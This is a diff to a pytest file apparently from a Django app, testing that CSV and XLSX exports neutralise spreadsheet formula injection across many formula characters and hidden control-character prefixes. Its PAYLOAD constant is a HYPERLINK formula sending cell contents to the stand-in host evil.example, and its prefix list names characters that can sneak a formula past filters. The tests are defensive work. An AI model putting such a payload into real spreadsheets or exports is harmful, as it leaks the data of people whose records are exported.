@@ -27,15 +27,73 @@ pytestmark = pytest.mark.django_db
         ("+358 40 123", "'+358 40 123"),
         ("-5", "'-5"),
         ("@cmd", "'@cmd"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
+        ("\tx", "x"),
+        ("\r\nx", "x"),
         ("Anna = Bob", "Anna = Bob"),
+        ("Ada\x01 Love\x9blace", "Ada Lovelace"),
+        ("line one\r\nline\ttwo", "line one\r\nline\ttwo"),
         ("", ""),
         (None, ""),
     ],
 )
 def test_safe_cell_prefixes_only_formula_starts(value, expected):
     assert exports.safe_cell(value) == expected
+
+
+FORMULA_CHARACTERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+# What may stand before a formula and be dropped by a spreadsheet on the way.
+PREFIXES = [
+    "",
+    "\t",
+    "\r",
+    "\n",
+    " ",
+    "\x00",
+    "\x01",
+    "\x1b",
+    "\x7f",
+    "\x85",
+    "\x9b",
+    "\u00a0",
+    "\u200b",
+    "\u3000",
+    "\ufeff",
+    "\x01 \t\r\n",
+]
+PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2, "Click")'
+INJECTIONS = [
+    prefix + start + PAYLOAD for start in FORMULA_CHARACTERS for prefix in PREFIXES
+]
+NEUTRALISED = [
+    "'" + start + PAYLOAD for start in FORMULA_CHARACTERS for prefix in PREFIXES
+]
+
+
+def test_csv_neutralises_every_formula_start_behind_any_prefix():
+    header = ["Name", "Answer"]
+    rows = [[value, value] for value in INJECTIONS]
+
+    data = exports.to_csv(header, rows)
+
+    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert parsed[1:] == [[value, value] for value in NEUTRALISED]
+
+
+def test_xlsx_writes_every_cell_as_text_and_neutralises_formulas():
+    header = ["=Name", "\x01+Answer"]
+    rows = [[value, value] for value in INJECTIONS]
+
+    data = exports.to_xlsx(header, rows, title="Registrations")
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert len(cells) == 2 * (len(INJECTIONS) + 1)
+    assert {cell.data_type for cell in cells} == {"s"}
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values == [
+        ["'=Name", "'+Answer"],
+        *([value, value] for value in NEUTRALISED),
+    ]
 
 
 def _event_with_answers():
